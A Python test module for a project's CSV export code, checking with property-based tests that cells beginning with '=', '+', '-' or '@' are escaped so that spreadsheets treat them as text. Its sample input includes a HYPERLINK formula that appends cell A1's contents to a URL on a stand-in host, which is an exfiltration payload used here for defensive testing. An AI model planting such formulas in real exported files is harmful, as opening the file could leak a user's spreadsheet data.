"""A table for download opens in a spreadsheet as what it is, and can be had back to the letter."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from msgspec import structs

from pivot.charts.plotted import Plotted
from pivot.claims.account import Rows
from pivot.publish.claims_table import as_csv
from tests.conftest import NEWEST, ledger_of

FORMULA = '=HYPERLINK("https://e.x?"&A1,"open")'


def rows(table: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(Plotted(table).csv(), newline="")))


ENTRY = next(iter(ledger_of(NEWEST).entries.values()))
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[-+]?[0-9]+)?")
WRITERS: dict[str, Callable[[str], str]] = {
    "a chart": lambda text: Plotted(pd.DataFrame({"company": [text], "level": [-7.7]})).csv(),
    "the rows of an account": lambda text: Rows("x", "x", ("company", "level"), ((text, "-7.7"),), 1).csv(),
    "the ledger": lambda text: as_csv({"x": structs.replace(ENTRY, statement=text, margin="-7.7")}).decode(),
}
"""Each way to a file for download, of a text and the number -7.7."""


@pytest.mark.parametrize("writer", WRITERS)
@given(text=st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1))
@example(FORMULA)
@example("'=1")
@example("-7.7")
@example("-7.7+1")
@example("@x")
def test_no_cell_is_a_formula_and_each_can_be_had_back(writer: str, text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(WRITERS[writer](text), newline=""))
    name, number = ("statement", "margin") if "statement" in row else ("company", "level")
    cell = row[name]
    assert len(cell) == 1 or NUMBER.fullmatch(cell) or not cell.startswith(("=", "+", "-", "@"))
    assert text == (cell[1:] if len(cell) > 1 and cell[0] == "'" else cell)
    assert row[number] == "-7.7"


@pytest.mark.parametrize(("cell", "shown"), [(FORMULA, f"'{FORMULA}"), ("MARA", "MARA"), ("−7.7%", "−7.7%")])
def test_columns_are_held_to_it_too(cell: str, shown: str) -> None:
    assert rows(pd.DataFrame({cell: [1]}))[0] == [shown]
